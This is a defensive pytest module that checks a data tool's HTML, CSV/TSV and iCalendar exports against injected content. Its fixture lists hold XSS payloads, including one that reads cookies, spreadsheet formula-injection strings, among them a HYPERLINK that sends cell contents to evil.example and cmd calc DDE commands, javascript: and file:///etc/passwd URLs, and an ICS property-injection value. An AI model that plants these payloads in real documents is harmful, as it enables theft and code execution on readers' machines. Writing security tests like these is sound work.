"""Issue 10, items 1, 2 and 4: outputs that other programs read cannot be turned against their reader.

TimelineJS documents are HTML wherever TimelineJS3 inserts text; CSV and TSV files are opened in
spreadsheets; iCalendar files are read by calendar programs. The fact base here carries HTML,
formulas and control characters in every text a definition or a fact can hold, and every output
is checked for the invariant of its medium. Run against the installed console script.
"""

from __future__ import annotations

import copy
import csv
import html
import io
import json
import re
from pathlib import Path
from typing import Any

import icalendar
import pytest

from tests.adversarial.adversarial_support import (
    SMALL_BASE,
    assert_problem_report,
    bundled_data,
    describe,
    dump,
    kz,
    kz_many,
    write,
)

HTML = [
    "<img src=x onerror=alert(1)>",
    '"><script>alert(document.cookie)</script>',
    "&lt;b&gt;already escaped&lt;/b&gt;",
    "<a href='javascript:alert(1)'>click</a>",
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    " =1+1",
]
CONTROLS = ["\t=1+1", "\r=1+1", "bell\x07 esc\x1b[2J", "tab\there", "cr\rhere", "back\\slash", "line\nbreak"]
TEXTS = HTML + FORMULAS + CONTROLS
NAMES = HTML + FORMULAS  # names refuse control characters: they only carry what can be shown


def published_data() -> dict[str, Any]:
    """The bundled base with every text of facts and definitions replaced by a hostile value."""
    data = copy.deepcopy(bundled_data())
    n = len(TEXTS)
    for i, fact in enumerate(data["facts"]):
        value, other = TEXTS[i % n], TEXTS[(i + 1) % n]
        fact["summary"] = {"en": value, "ru": other}
        fact["quote"] = value if value == value.strip() else f"q {value} q"
        fact["notes"] = {"en": other, "ru": value}
        if "date" in fact:
            fact["date_text"] = {"en": value, "ru": other}
    for kind in ("sectors", "countries", "entities"):
        for j, item in enumerate(data[kind].values()):
            name = NAMES[j % len(NAMES)]
            item["name"] = {"en": f"{name} {kind} {j}", "ru": f"{name} {kind} ru {j}"}
            item["aliases"] = [f"{NAMES[(j + 1) % len(NAMES)]} {kind} alias {j}"]
            if "role" in item:
                item["role"] = {"en": TEXTS[j % n], "ru": TEXTS[(j + 2) % n]}
    for j, source in enumerate(data["sources"].values()):
        source["outlet"] = TEXTS[j % n]
        source["place"] = {"en": HTML[0], "ru": FORMULAS[0]}
        source["title"] = {"en": HTML[1], "ru": CONTROLS[2]}
    return data


class Base:
    def __init__(self, root: Path) -> None:
        self.root = root
        self.path = dump(root, "published.yaml", published_data())

    def run(self, *args: str) -> Any:
        result = kz(self.root, "--data", self.path.name, *args)
        # The exports may say which facts they left off their time axis; nothing else.
        notices = [line for line in result.stderr.splitlines() if "open or unknown end" not in line]
        assert (result.returncode, notices) == (0, []), describe(result)
        return result


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> Base:
    made = Base(tmp_path_factory.mktemp("published"))
    made.run("validate")
    return made


# --- 1. TimelineJS is HTML -----------------------------------------------------------------------------

OWN_TAGS = re.compile(r"</?(?:p|b|i|blockquote|ul|li)>")  # the only markup kzil writes itself
ENTITY = re.compile(r"&(?:amp|lt|gt|quot|#x27);")


def strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [text for item in value.values() for text in strings(item)]
    if isinstance(value, list):
        return [text for item in value for text in strings(item)]
    return []


def assert_html_safe(document: dict[str, Any]) -> None:
    for text in strings(document):
        bare = OWN_TAGS.sub("", text)
        assert not re.search("[<>\"']", bare), f"unescaped HTML in {text!r}"
        assert not re.search("&", ENTITY.sub("", bare)), f"a bare & in {text!r}"


@pytest.mark.parametrize("lang", ["en", "ru"])
def test_every_string_of_a_timelinejs_document_is_escaped_html(base: Base, lang: str) -> None:
    document = json.loads(base.run("timeline", "--format", "timelinejs", "--lang", lang).stdout)
    assert_html_safe(document)
    events = document["events"]
    fields = {
        "group": [event["group"] for event in events if "group" in event],
        "headline": [event["text"]["headline"] for event in events],
        "text": [event["text"]["text"] for event in events],
        "title": [document["title"]["text"]["text"]],
    }
    for field, texts in fields.items():
        joined = "\n".join(texts)
        assert any(html.escape(payload) in joined for payload in HTML), f"{field}: no payload shown escaped"


def test_timelinejs_shows_the_text_a_reader_would_see_in_the_source(base: Base) -> None:
    """Escaped once, not twice: `&lt;` in the data is shown as `&lt;`, i.e. written `&amp;lt;`."""
    document = json.loads(base.run("timeline", "--format", "timelinejs").stdout)
    headlines = [event["text"]["headline"] for event in document["events"]]
    assert html.escape(HTML[2]) in headlines
    assert "&amp;lt;b&amp;gt;already escaped&amp;lt;/b&amp;gt;" in headlines


ODD_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "ftp://example.com/file",
    "//example.com/path",
    "https:example.com",
    "https:/example.com",
    "https://",
    "https:///path",
    "https://:443/path",
    "https://user@/path",
    'https://example.com/"onmouseover="alert(1)',
    "https://example.com/<script>",
    "https://example.com/a b",
    "https://example.com\\@evil.example",
    "https://exa\u200bmple.com/",
    "https://example.com/\u202etxt.exe",
    "https://example.com/\x1b[2J",
    "https://example.com/\x85next",
    " https://example.com/",
    "https://example.com/\t",
    "\u2060https://example.com/",
]
GOOD_URLS = [
    "https://example.com",
    "http://example.com/path?q=1&r=2#frag",
    "HTTPS://EXAMPLE.COM/",
    "https://user:pw@example.com:8443/a/b;c=d?e=f",
    "https://ru.wikipedia.org/wiki/%D0%92%D0%BE%D0%B4%D0%B0",
    "https://пример.рф/путь",
    "https://[2001:db8::1]/",
]


def _with_url(url: str) -> str:
    return SMALL_BASE.replace(
        "    title: {en: Title, ru: Заголовок}\n",
        f"    title: {{en: Title, ru: Заголовок}}\n    url: {json.dumps(url)}\n",
    )


def test_a_source_url_that_is_not_http_or_https_is_refused_whatever_its_form(tmp_path: Path) -> None:
    calls: list[tuple[list[str], dict[str, str]]] = []
    for i, url in enumerate(ODD_URLS):
        write(tmp_path, f"url{i}.yaml", _with_url(url))
        calls.append((["validate", f"url{i}.yaml"], {}))
    for url, result in zip(ODD_URLS, kz_many(tmp_path, calls), strict=True):
        try:
            assert_problem_report(result, ":11: sources.src.url:")
        except AssertionError as error:
            raise AssertionError(f"{url!r} was not refused: {error}") from None


def test_a_plain_http_or_https_url_is_accepted(tmp_path: Path) -> None:
    calls: list[tuple[list[str], dict[str, str]]] = []
    for i, url in enumerate(GOOD_URLS):
        write(tmp_path, f"good{i}.yaml", _with_url(url))
        calls.append((["--data", f"good{i}.yaml", "sources", "--json"], {}))
    for url, result in zip(GOOD_URLS, kz_many(tmp_path, calls), strict=True):
        assert result.returncode == 0, f"{url!r}: {describe(result)}"
        assert json.loads(result.stdout)[0]["url"] == url


# --- 2. CSV and TSV are opened in spreadsheets -----------------------------------------------------

COMMANDS = [
    ["facts"],
    ["timeline"],
    ["track"],
    ["show", "water-mou-signed"],
    ["sectors"],
    ["countries"],
    ["entities"],
    ["sources"],
    ["statuses"],
    ["overview"],
]
DANGEROUS_START = re.compile(r"[=+\-@\t\r]|\s+[=+\-@]")
RAW_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f]")


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def tsv_rows(text: str) -> list[list[str]]:
    assert text.endswith("\n")
    return [line.split("\t") for line in text[:-1].split("\n")]


def untsv(cell: str) -> str:
    """A TSV cell as the README says to read it: backslash escapes as in a Python string."""
    return cell.encode("utf-8").decode("unicode_escape").encode("latin-1").decode("utf-8")


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
@pytest.mark.parametrize("args", COMMANDS, ids=lambda args: args[0])
def test_no_cell_starts_like_a_formula_or_holds_a_raw_control(base: Base, fmt: str, args: list[str]) -> None:
    text = base.run(*args, "--format", fmt).stdout
    rows = csv_rows(text) if fmt == "csv" else tsv_rows(text)
    assert len({len(row) for row in rows}) == 1, f"rows of different lengths: {rows[:3]}"
    for row in rows:
        for cell in row:
            assert not DANGEROUS_START.match(cell), f"a cell a spreadsheet would evaluate: {cell!r}"
            assert not RAW_CONTROL.search(cell.replace("\n", "") if fmt == "csv" else cell), cell


def escaped(value: str) -> str:
    """What a CSV cell shows of a control character: its escape, as `kzil.text.visible` writes it."""
    return re.sub("[\x00-\x09\x0b-\x1f\x7f-\x9f]", lambda m: f"\\x{ord(m.group()):02x}", value)


def guarded(value: str) -> str:
    return escaped("'" + value if DANGEROUS_START.match(value) else value)


def column(text: str, key: str) -> list[str]:
    return [row[key] for row in csv.DictReader(io.StringIO(text, newline=""))]


def test_formula_cells_are_neutralised_with_a_leading_quote(base: Base) -> None:
    records = json.loads(base.run("facts", "--json").stdout)
    summaries = column(base.run("facts", "-f", "csv").stdout, "summary")
    assert summaries == [guarded(record["summary"]) for record in records]
    assert {"'" + formula for formula in FORMULAS} <= set(summaries)
    assert {"'\\x09=1+1", "'\\x0d=1+1", "bell\\x07 esc\\x1b[2J", "line\nbreak"} <= set(summaries)
    sectors = json.loads(base.run("sectors", "--json").stdout)
    names = column(base.run("sectors", "-f", "csv").stdout, "name")
    assert names == [guarded(sector["name"]) for sector in sectors]
    assert any(name.startswith("'=HYPERLINK") for name in names)


def test_tsv_escapes_its_separators_and_backslash_so_every_cell_reads_back(base: Base) -> None:
    rows = tsv_rows(base.run("facts", "-f", "tsv", "--no-formula-guard").stdout)
    header, body = rows[0], rows[1:]
    summaries = {untsv(row[header.index("summary")]) for row in body}
    records = json.loads(base.run("facts", "--json").stdout)
    assert summaries == {record["summary"] for record in records}
    quotes = [untsv(row[header.index("quote")]) for row in body]
    assert quotes == [record["quote"] for record in records]


def test_no_formula_guard_gives_the_text_as_it_is(base: Base) -> None:
    records = json.loads(base.run("facts", "--json").stdout)
    raw = column(base.run("facts", "-f", "csv", "--no-formula-guard").stdout, "summary")
    assert raw == [escaped(record["summary"]) for record in records]
    assert set(FORMULAS) <= set(raw)


# --- 4. iCalendar ------------------------------------------------------------------------------------------


def test_every_ics_property_is_escaped_and_free_of_controls(base: Base) -> None:
    data = base.run("timeline", "--format", "ics").out_bytes
    text = data.decode("utf-8")
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", text), "a raw control character"
    assert not re.search("\r(?!\n)|(?<!\r)\n", text), "a line break that is not CRLF"
    lines = text.split("\r\n")
    assert all(len(line.encode()) <= 75 for line in lines)
    unfolded = re.sub("\r\n ", "", text).split("\r\n")
    categories = [line for line in unfolded if line.startswith("CATEGORIES:")]
    assert categories, "no CATEGORIES written"
    calendar = icalendar.Calendar.from_ical(data)
    events = list(calendar.walk("VEVENT"))
    names = {str(name) for event in events if "CATEGORIES" in event for name in event["CATEGORIES"].cats}  # type: ignore[union-attr]
    assert any(name.startswith(FORMULAS[0]) for name in names)  # a comma and quotes inside one category
    for event in events:
        for key in ("SUMMARY", "DESCRIPTION"):
            assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f]", str(event[key]))


def test_ics_calendar_name_and_categories_cannot_break_a_property(tmp_path: Path) -> None:
    text = SMALL_BASE.replace(
        "name: {en: Water, ru: Вода}", 'name: {en: "Wa;ter,\\\\x\\nEND:VEVENT\\u0085\\u2028\\x1b", ru: Вода}'
    )
    write(tmp_path, "ics.yaml", text)
    result = kz(tmp_path, "--data", "ics.yaml", "timeline", "--format", "ics")
    if result.returncode != 0:  # names with controls may be refused outright: that is safe too
        assert "sectors.water.name" in result.stderr, describe(result)
        return
    unfolded = re.sub("\r\n ", "", result.out_bytes.decode())
    assert unfolded.split("\r\n").count("END:VEVENT") == 1
    [line] = [line for line in unfolded.split("\r\n") if line.startswith("CATEGORIES:")]
    assert line.startswith("CATEGORIES:Wa\\;ter\\,\\\\x")
    assert not re.search("[\x00-\x1f\x7f-\x9f\u2028]", line)
